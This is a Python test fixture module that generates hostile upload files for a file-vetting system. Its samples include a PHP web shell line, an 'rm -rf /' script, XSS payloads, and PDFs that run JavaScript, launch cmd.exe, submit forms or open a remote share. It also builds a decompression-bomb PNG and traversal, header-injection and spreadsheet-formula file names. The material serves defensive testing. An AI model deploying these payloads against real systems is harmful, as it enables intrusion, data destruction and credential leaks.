"""Files as an enemy sends them: one function a family, each giving (name, bytes) for a seed. All made by code.

`REFUSED` must be turned away; `TAMED` may be taken, but what was hidden in it must be gone (each holds the marker).
Packages stand in `hostile_packages`.
"""

import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.tracking import benign_files as honest

Made = tuple[str, bytes]
Family = Callable[[random.Random], Made]

MARKER = b"dau-vet-an-giau-7731"
SCRIPT = b"<script>fetch('/" + MARKER + b"')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>' + MARKER + b"</script></svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"

REFUSED: dict[str, Family] = {}
TAMED: dict[str, Family] = {}


def refused(family: Family) -> Family:
    REFUSED[family.__name__] = family
    return family


def tamed(family: Family) -> Family:
    TAMED[family.__name__] = family
    return family


def noise(rng: random.Random, size: int = 400) -> bytes:
    return rng.randbytes(size)


# --- plain lies about the kind -------------------------------------------------------------------------------------


def _plain(name: str, data: Callable[[random.Random], bytes]) -> Family:
    def family(rng: random.Random) -> Made:
        return name, data(rng)

    return family


REFUSED |= {
    "svg": _plain("hinh.svg", lambda r: SVG),
    "svg called png": _plain("hinh.png", lambda r: SVG),
    "svg with a prolog": _plain("hinh.jpg", lambda r: b'<?xml version="1.0"?>' + b" " * r.randrange(500) + SVG),
    "html": _plain("don.html", lambda r: HTML),
    "html called pdf": _plain("don.pdf", lambda r: HTML),
    "html called txt": _plain("don.txt", lambda r: b" \n" * r.randrange(50) + HTML),
    "html in two bytes a letter": _plain("don.txt", lambda r: HTML.decode().encode("utf-16")),
    "php called txt": _plain("a.txt", lambda r: b"<?php system($_GET['c']); ?>"),
    "shell script": _plain("chay.txt", lambda r: b"#!/bin/sh\nrm -rf /\n"),
    "javascript": _plain("chay.js", lambda r: b"alert(1)"),
    "windows program": _plain("xem.exe", lambda r: b"MZ" + noise(r)),
    "windows program called pdf": _plain("xem.pdf", lambda r: b"MZ" + noise(r)),
    "linux program called jpg": _plain("xem.jpg", lambda r: b"\x7fELF" + noise(r)),
    "two suffixes, the last bad": _plain("anh.jpg.exe", lambda r: honest.picture()),
    "shortcut": _plain("hoso.lnk", lambda r: b"\x4c\0\0\0\x01\x14\x02\0" + noise(r)),
    "zip": _plain("ho so.zip", lambda r: honest.package({"a.txt": noise(r)})),
    "zip called docx": _plain("ho so.docx", lambda r: honest.package({"a.txt": noise(r)})),
    "rar": _plain("ho so.rar", lambda r: b"Rar!\x1a\x07\x01\0" + noise(r)),
    "seven zip called docx": _plain("ho so.docx", lambda r: b"7z\xbc\xaf\x27\x1c" + noise(r)),
    "gzip called txt": _plain("ho so.txt", lambda r: zlib.compress(noise(r), wbits=31)),
    "old word": _plain("don.doc", lambda r: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(r)),
    "locked word": _plain("don.docx", lambda r: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(r, 4000)),
    "rtf with an object": _plain("don.rtf", lambda r: b"{\\rtf1{\\object\\objdata 0105}}"),
    "empty": _plain("a.jpg", lambda r: b""),
    "noise called jpg": _plain("a.jpg", lambda r: b"\0" + noise(r)),
    "noise called txt": _plain("a.txt", lambda r: b"\0\x01" + noise(r)),
    "no suffix": _plain("anh", lambda r: honest.picture()),
    "only a suffix": _plain(".jpg", lambda r: honest.picture()),
    "pdf called jpg": _plain("a.jpg", lambda r: honest.pdf()),
    "too large": _plain("a.txt", lambda r: b"a" * (10 * 1024 * 1024 + 1 + r.randrange(9))),
    "other recording": _plain("a.mp4", lambda r: b"\x1aE\xdf\xa3" + noise(r)),
}


# --- pictures ------------------------------------------------------------------------------------------------------


@refused
def picture_of_a_billion_pixels(rng: random.Random) -> Made:
    """A small file whose head declares 50,000 x 50,000."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    side = 50_000 + rng.randrange(1000)
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1_000_000), 9)
    return "bom.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@refused
def picture_cut_off(rng: random.Random) -> Made:
    whole = honest.picture(size=(400, 300))
    return "cut.jpg", whole[: 300 + rng.randrange(200)]


@refused
def heic_of_noise(rng: random.Random) -> Made:
    return "a.heic", struct.pack(">I", 24) + b"ftypheic" + bytes(4) + b"mif1heic" + noise(rng)


@tamed
def picture_with_a_place(rng: random.Random) -> Made:
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return "noi chup.jpg", honest.picture(exif=exif.tobytes(), comment=MARKER)


@tamed
def picture_with_a_page_behind(rng: random.Random) -> Made:
    return "anh.jpg", honest.picture() + HTML + noise(rng)


@tamed
def picture_with_a_zip_behind(rng: random.Random) -> Made:
    return "anh.png", honest.picture("PNG") + honest.package({"a.js": MARKER}, compression=zipfile.ZIP_STORED)


@tamed
def picture_with_text_chunks(rng: random.Random) -> Made:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARKER.decode())
    info.add_itxt("XML:com.adobe.xmp", f"<x>{MARKER.decode()}</x>")
    return "anh.png", honest.picture("PNG", pnginfo=info)


@tamed
def picture_with_a_profile(rng: random.Random) -> Made:
    return "anh.jpg", honest.picture(icc_profile=noise(rng) + MARKER)


@tamed
def webp_with_metadata(rng: random.Random) -> Made:
    return "anh.webp", honest.picture("WEBP", xmp=b"<x>" + MARKER + b"</x>")


# --- pdf -----------------------------------------------------------------------------------------------------------


def _pdf(change: Callable[[PdfWriter], None]) -> bytes:
    writer = honest.pdf_writer()
    change(writer)
    return honest.written(writer)


def _open_with(writer: PdfWriter, action: dict[str, object]) -> None:
    entries = {NameObject(key): value for key, value in action.items()}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(entries))


_SCRIPT_ACTION: dict[str, object] = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}


@refused
def pdf_with_javascript(rng: random.Random) -> Made:
    return "a.pdf", _pdf(lambda w: _open_with(w, _SCRIPT_ACTION))


@refused
def pdf_with_script_name_disguised(rng: random.Random) -> Made:
    plain = _pdf(lambda w: _open_with(w, _SCRIPT_ACTION))
    return "a.pdf", plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


@refused
def pdf_with_script_in_an_object_stream(rng: random.Random) -> Made:
    """The action stands compressed, where no search of the bytes sees it."""
    packed = (
        b"4 0 5 60 "
        + b"<</Type/Catalog/Pages 6 0 R/OpenAction 5 0 R>>".ljust(60)
        + b"<</S/JavaScript/JS(app.alert(1))>>"
    )
    body = zlib.compress(packed)
    out = bytearray(b"%PDF-1.5\n")
    places = {3: len(out)}
    out += b"3 0 obj<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj\n" % (
        len(body),
        body,
    )
    places[6] = len(out)
    out += b"6 0 obj<</Type/Pages/Kids[7 0 R]/Count 1>>endobj\n"
    places[7] = len(out)
    out += b"7 0 obj<</Type/Page/Parent 6 0 R/MediaBox[0 0 9 9]>>endobj\n"
    start = len(out)
    rows = {0: (0, 0, 0), 4: (2, 3, 0), 5: (2, 3, 1), 8: (1, start, 0)} | {n: (1, p, 0) for n, p in places.items()}
    table = b"".join(struct.pack(">BIB", *rows.get(number, (0, 0, 0))) for number in range(9))
    out += b"8 0 obj<</Type/XRef/Size 9/W[1 4 1]/Root 4 0 R/Length %d>>stream\n%b\nendstream endobj\n" % (
        len(table),
        table,
    )
    return "a.pdf", bytes(out + b"startxref\n%d\n%%%%EOF" % start)


@refused
def pdf_that_starts_a_program(rng: random.Random) -> Made:
    action = {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
    return "a.pdf", _pdf(lambda w: _open_with(w, action))


@refused
def pdf_that_sends_a_form(rng: random.Random) -> Made:
    action = {"/S": NameObject("/SubmitForm"), "/F": TextStringObject("https://example.org")}
    return "a.pdf", _pdf(lambda w: _open_with(w, action))


@refused
def pdf_that_opens_a_share(rng: random.Random) -> Made:
    action = {"/S": NameObject("/GoToR"), "/F": TextStringObject("\\\\example.org\\a.pdf"), "/D": ArrayObject()}
    return "a.pdf", _pdf(lambda w: _open_with(w, action))


@refused
def pdf_with_a_file_inside(rng: random.Random) -> Made:
    return "a.pdf", _pdf(lambda w: w.add_attachment("a.exe", b"MZ" + noise(rng)))


@refused
def pdf_with_a_form_of_xfa(rng: random.Random) -> Made:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream.set_data(b"<xdp/>")
        form = DictionaryObject({NameObject("/XFA"): writer._add_object(stream)})
        writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)

    return "a.pdf", _pdf(change)


@refused
def pdf_with_a_password(rng: random.Random) -> Made:
    return "a.pdf", _pdf(lambda w: w.encrypt("bi-mat", algorithm="AES-256"))


@refused
def pdf_locked_for_the_owner(rng: random.Random) -> Made:
    return "a.pdf", _pdf(lambda w: w.encrypt("", "chu", algorithm="AES-128"))


@refused
def pdf_with_a_zip_behind(rng: random.Random) -> Made:
    return "a.pdf", honest.pdf() + honest.package({"a.js": MARKER})


@refused
def pdf_with_a_page_in_front(rng: random.Random) -> Made:
    return "a.pdf", b"%PDF-1.4\n" + HTML + honest.pdf()


@refused
def pdf_with_much_behind(rng: random.Random) -> Made:
    return "a.pdf", honest.pdf() + noise(rng, 5000)


@refused
def pdf_without_pages(rng: random.Random) -> Made:
    return "a.pdf", honest.written(PdfWriter())


@refused
def pdf_of_noise(rng: random.Random) -> Made:
    return "a.pdf", b"%PDF-1.7\n" + noise(rng, 3000) + b"\n%%EOF"


@refused
def pdf_nested_without_end(rng: random.Random) -> Made:
    deep = b"[" * 5000 + b"]" * 5000
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + b">>endobj\n"
    return "a.pdf", body + b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"


@refused
def pdf_whose_pages_chase_themselves(rng: random.Random) -> Made:
    root = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    pages = b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>endobj\n"
    return "a.pdf", root + pages + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


@refused
def pdf_cut_off(rng: random.Random) -> Made:
    return "a.pdf", honest.pdf(3)[: 200 + rng.randrange(100)]


# --- recordings ----------------------------------------------------------------------------------------------------


@refused
def film_with_a_page_behind(rng: random.Random) -> Made:
    return "a.mp4", honest.film() + HTML


@tamed
def film_with_an_unknown_box(rng: random.Random) -> Made:
    return "a.mp4", honest.film(after=honest.box(b"beam", HTML))


@refused
def film_without_streams(rng: random.Random) -> Made:
    return "a.mp4", honest.box(b"ftyp", b"isom" + bytes(8)) + honest.box(b"free", noise(rng))


@refused
def film_of_endless_boxes(rng: random.Random) -> Made:
    return "a.mp4", honest.film(after=honest.box(b"free") * 30_000)


@refused
def film_whose_box_is_longer_than_the_file(rng: random.Random) -> Made:
    return "a.mp4", honest.film() + struct.pack(">I4s", 2**31, b"mdat")


@refused
def sound_of_noise(rng: random.Random) -> Made:
    return "a.mp3", b"ID3\x03\0\0\0\0\0\x10" + noise(rng)


@refused
def sound_with_a_page_behind(rng: random.Random) -> Made:
    return "a.mp3", honest.sound() + HTML


@tamed
def film_with_a_place(rng: random.Random) -> Made:
    place = honest.box(b"udta", honest.box(b"\xa9xyz", b"+20.86+106.68/" + MARKER))
    return "a.mp4", honest.film(inside=place, after=honest.box(b"free", HTML))


@tamed
def sound_with_a_page_in_its_tag(rng: random.Random) -> Made:
    return "a.mp3", honest.sound(tag=honest.id3(HTML)) + b"TAG" + MARKER.ljust(125, b"\0")


# --- names ---------------------------------------------------------------------------------------------------------

NAMES = (
    "../../../etc/passwd.jpg",
    "C:\\Windows\\win.ini.jpg",
    "a\0.jpg",
    "\u202egpj.exe.jpg",
    "con.jpg",
    "NUL.png",
    "a.php.jpg",
    "a" * 5000 + ".jpg",
    "ả" * 400 + ".jpg",
    "<img src=x onerror=1>.jpg",
    "a\r\nSet-Cookie: x=1.jpg",
    "  . .jpg . ",
    "%00.jpg",
    "=cmd|' /C calc'!A0.jpg",
    "\ud800.jpg",
    "\u200b\u200b.jpg",
    "…jpg.jpg",
    "-rf.jpg",
    "a;filename=b.exe.jpg",
    '".jpg',
)


@tamed
def picture_with_a_wicked_name(rng: random.Random) -> Made:
    return rng.choice(NAMES), honest.picture(comment=MARKER)
